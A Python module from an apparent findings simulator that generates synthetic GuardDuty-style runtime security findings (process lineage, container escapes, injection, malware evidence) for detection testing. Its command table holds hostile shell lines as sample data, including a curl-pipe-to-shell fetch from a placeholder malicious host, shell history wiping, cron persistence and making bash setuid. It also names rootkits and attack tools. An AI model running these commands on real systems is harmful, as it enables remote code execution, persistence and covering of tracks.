"""``service.runtimeDetails`` for Runtime Monitoring findings: the process, its lineage and the context.

The context members used per behaviour are the ones botocore's ``RuntimeContext`` defines for it
(releaseAgentPath for cgroups escapes, socketPath for Docker socket access, moduleName/moduleFilePath/
moduleSha256 for kernel modules, targetProcess for injection, toolName/toolCategory for tools, ...).
"""

from __future__ import annotations

import random

from simulator.findings import ids
from simulator.findings.clock import epoch_seconds
from simulator.findings.networks import draw_remote
from simulator.findings.values import between, pick

AGENT_VERSIONS = ("1.5.0", "1.6.1", "1.7.0")

# behaviour -> (process name, executable path, runs as root)
_PROCESSES: dict[str, tuple[str, str, bool]] = {
    "CGroupsReleaseAgentModified": ("sh", "/bin/sh", True),
    "ContainerMountsHostDirectory": ("mount", "/usr/bin/mount", True),
    "CryptoMinerExecuted": ("xmrig", "/tmp/.cache/xmrig", False),
    "DockerSocketAccessed": ("curl", "/usr/bin/curl", True),
    "ElevationToRoot": ("pkexec", "/usr/bin/pkexec", False),
    "FilelessExecution": ("3", "/memfd:kworker (deleted)", False),
    "KernelModuleLoaded": ("insmod", "/usr/sbin/insmod", True),
    "MaliciousFileExecuted": ("kdevtmpfsi", "/tmp/kdevtmpfsi", False),
    "MaliciousFileExecuted.Custom": ("update-agent", "/var/tmp/.update-agent", False),
    "NewBinaryExecuted": ("svchelper", "/usr/local/bin/svchelper", True),
    "NewLibraryLoaded": ("nginx", "/usr/sbin/nginx", True),
    "ProcessInjection.Proc": ("python3", "/usr/bin/python3.11", True),
    "ProcessInjection.Ptrace": ("gdb", "/usr/bin/gdb", True),
    "ProcessInjection.VirtualMemoryWrite": ("inject", "/tmp/inject", True),
    "PtraceAntiDebugging": ("watchdogd", "/tmp/.x/watchdogd", False),
    "ReverseShell": ("bash", "/usr/bin/bash", False),
    "RuncContainerEscape": ("runc", "/usr/bin/runc", True),
    "SensitiveFileModified": ("sh", "/bin/sh", True),
    "SuspiciousCommand": ("bash", "/usr/bin/bash", False),
    "SuspiciousShellCreated": ("sh", "/bin/sh", False),
    "SuspiciousTool": ("nmap", "/usr/bin/nmap", False),
    "UserfaultfdUsage": ("exploit", "/tmp/exploit", False),
    "network": ("kworkerds", "/tmp/.ICE-unix/kworkerds", False),
    "dns-request": ("curl", "/usr/bin/curl", False),
}
_PARENTS = (("bash", "/usr/bin/bash"), ("sshd", "/usr/sbin/sshd"), ("containerd-shim-runc-v2",
            "/usr/bin/containerd-shim-runc-v2"), ("systemd", "/usr/lib/systemd/systemd"))
_COMMANDS = {
    "DefenseEvasion": "history -c && rm -f /root/.bash_history && unset HISTFILE",
    "Discovery": "cat /etc/passwd; id; uname -a; cat /proc/self/cgroup",
    "Execution": "curl -fsSL http://{remote}/init.sh | sh",
    "Persistence": "(crontab -l; echo '*/5 * * * * /var/tmp/.x/run') | crontab -",
    "PrivilegeEscalation": "chmod u+s /bin/bash",
}
_SENSITIVE_FILES = {"DefenseEvasion": "/etc/ld.so.preload", "Persistence": "/root/.ssh/authorized_keys",
                    "PrivilegeEscalation": "/etc/sudoers"}
_TOOLS = (("nmap", "Network scanner"), ("masscan", "Network scanner"), ("hydra", "Password cracker"),
          ("sqlmap", "Web application scanner"), ("linpeas.sh", "Privilege escalation"))
_MALWARE = ("Linux.Trojan.Kinsing", "Linux.Backdoor.Tsunami", "Linux.Coinminer.XMRig", "Linux.Trojan.Mirai")


def process(rng: random.Random, name: str, path: str, *, root: bool, container: bool, started_ms: int,
            depth: int = 2) -> dict:
    user, uid = ("root", 0) if root else (pick(rng, ("ec2-user", "ubuntu", "app", "www-data")), 1000)
    pid = between(rng, 300, 60_000)
    namespace_pid = between(rng, 1, 200) if container else pid
    uuid = ids.rng_uuid(rng)
    lineage = []
    parent_uuid = ids.rng_uuid(rng)
    child_uuid = parent_uuid
    for level in range(depth):
        parent_name, parent_path = _PARENTS[min(level, len(_PARENTS) - 1)]
        grand_uuid = ids.rng_uuid(rng)
        parent_pid = max(1, pid - between(rng, 1, 300) * (level + 1))
        lineage.append({"startTime": epoch_seconds(started_ms - (level + 1) * between(rng, 1_000, 600_000)),
                        "namespacePid": max(1, namespace_pid - level - 1), "userId": uid, "name": parent_name,
                        "pid": parent_pid, "uuid": child_uuid, "executablePath": parent_path, "euid": uid,
                        "parentUuid": grand_uuid})
        child_uuid = grand_uuid
    return {"name": name, "executablePath": path, "executableSha256": ids.sha256_hex(rng),
            "namespacePid": namespace_pid, "pwd": "/" if root else f"/home/{user}", "pid": pid,
            "startTime": epoch_seconds(started_ms), "uuid": uuid, "parentUuid": parent_uuid, "user": user,
            "userId": uid, "euid": uid, "lineage": lineage}


def runtime_details(behaviour: str, purpose: str, rng: random.Random, *, container: bool, started_ms: int,
                    remote_ip: str = "", domain: str = "") -> tuple[dict, dict | None]:
    """The runtimeDetails section and, for known malware, its threat-intelligence evidence."""
    name, path, root = _PROCESSES.get(behaviour, ("bash", "/usr/bin/bash", False))
    if behaviour == "dns-request" and domain.startswith(("pool.", "xmr", "gulf.", "rx.", "stratum.", "btc.", "ss.")):
        name, path = "xmrig", "/tmp/.cache/xmrig"
    if behaviour == "SuspiciousTool":
        tool, category = pick(rng, _TOOLS)
        name, path = tool, f"/usr/bin/{tool}"
    proc = process(rng, name, path, root=root, container=container, started_ms=started_ms)
    evidence = None
    context: dict = {}
    if behaviour == "ElevationToRoot":
        proc["euid"] = 0
    elif behaviour == "CGroupsReleaseAgentModified":
        context["releaseAgentPath"] = f"/sys/fs/cgroup/{pick(rng, ('rdma', 'memory', 'cpu'))}/release_agent"
    elif behaviour == "ContainerMountsHostDirectory":
        context.update(mountSource="/dev/nvme0n1p1", mountTarget="/mnt/host", fileSystemType="xfs",
                       flags=["MS_RDONLY"] if rng.random() < 0.3 else ["MS_NOSUID"])
    elif behaviour == "DockerSocketAccessed":
        context["socketPath"] = "/var/run/docker.sock"
    elif behaviour == "KernelModuleLoaded":
        module = pick(rng, ("diamorphine", "reptile", "kovid"))
        context.update(moduleName=module, moduleFilePath=f"/tmp/{module}.ko", moduleSha256=ids.sha256_hex(rng))
    elif behaviour in ("MaliciousFileExecuted", "MaliciousFileExecuted.Custom", "CryptoMinerExecuted"):
        context["threatFilePath"] = path
        threat = "Linux.Coinminer.XMRig" if behaviour == "CryptoMinerExecuted" else pick(rng, _MALWARE)
        list_name = "CustomerThreatList" if behaviour.endswith(".Custom") else "Amazon"
        evidence = {"threatIntelligenceDetails": [{"threatListName": list_name, "threatNames": [threat],
                                                   "threatFileSha256": proc["executableSha256"]}]}
    elif behaviour == "NewBinaryExecuted":
        context.update(modifyingProcess=process(rng, "curl", "/usr/bin/curl", root=True, container=container,
                                                started_ms=started_ms - 60_000, depth=1),
                       modifiedAt=epoch_seconds(started_ms - 30_000), filePath=path)
    elif behaviour == "NewLibraryLoaded":
        library = pick(rng, ("/tmp/libprocesshider.so", "/usr/local/lib/libsystem.so"))
        context.update(libraryPath=library, modifiedAt=epoch_seconds(started_ms - 45_000),
                       modifyingProcess=process(rng, "wget", "/usr/bin/wget", root=True, container=container,
                                                started_ms=started_ms - 90_000, depth=1))
    elif behaviour.startswith("ProcessInjection"):
        context["targetProcess"] = process(rng, "sshd", "/usr/sbin/sshd", root=True, container=container,
                                           started_ms=started_ms - 3_600_000, depth=1)
        if behaviour != "ProcessInjection.Ptrace":
            context["memoryRegions"] = [f"{rng.getrandbits(44):012x}-{rng.getrandbits(44):012x}"]
    elif behaviour == "RuncContainerEscape":
        context["runcBinaryPath"] = "/usr/bin/runc"
    elif behaviour == "SensitiveFileModified":
        context.update(fileOperation="WRITE", filePath=_SENSITIVE_FILES.get(purpose, "/etc/passwd"))
    elif behaviour == "SuspiciousCommand":
        context["commandLineExample"] = _COMMANDS.get(purpose, _COMMANDS["Discovery"]).format(
            remote=remote_ip or draw_remote(rng, "malicious")[1])
    elif behaviour == "SuspiciousTool":
        context.update(toolName=name, toolCategory=category)
    details: dict = {"process": proc}
    if context:
        details["context"] = context
    return details, evidence
